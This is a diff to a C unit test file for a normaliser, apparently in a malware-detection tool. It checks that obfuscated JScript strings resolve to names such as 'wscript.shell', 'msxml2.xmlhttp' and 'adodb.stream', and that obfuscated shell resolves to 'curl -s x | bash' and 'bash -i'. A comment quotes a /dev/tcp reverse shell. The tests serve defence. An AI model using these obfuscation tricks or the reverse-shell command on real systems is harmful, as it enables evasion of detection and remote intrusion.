@@ -56,6 +56,12 @@ static void test_wsh_and_shell(void **state)
         expect_norm("new ActiveXObject(String.fromCharCode(87,83,99,114,105,112,116))",
                     "new activexobject(\"wscript\")");
         expect_norm("'\\x57\\x53' + 'cript'", "'wscript'");
+        /* JScript's junk removal and reversed strings */
+        expect_norm("x = 'WdScrdipt.Shedll'.split('d').join('')", "x = 'wscript.shell'");
+        expect_norm("x = 'PTTHLMX.2LMXSM'.split('').reverse().join('')", "x = 'msxml2.xmlhttp'");
+        expect_norm("x = 'a-b-c'.split('-').reverse().join('+')", "x = 'c+b+a'");
+        expect_norm("x = 'ADzzODB.StzzrezzAm'.replace(/zz/g, '')", "x = 'adodb.stream'");
+        expect_norm("x = 'a'+'b'.replace(/./g, '')", "x = 'ab'.replace(/./g, '')");
         expect_norm("c'ur'l -s x | b\"as\"h", "curl -s x | bash");
         expect_norm("$'\\x62\\x61sh' -i", "bash -i");
         /* "bash -i >& /dev/tcp/192.0.2.1/9 0>&1" */
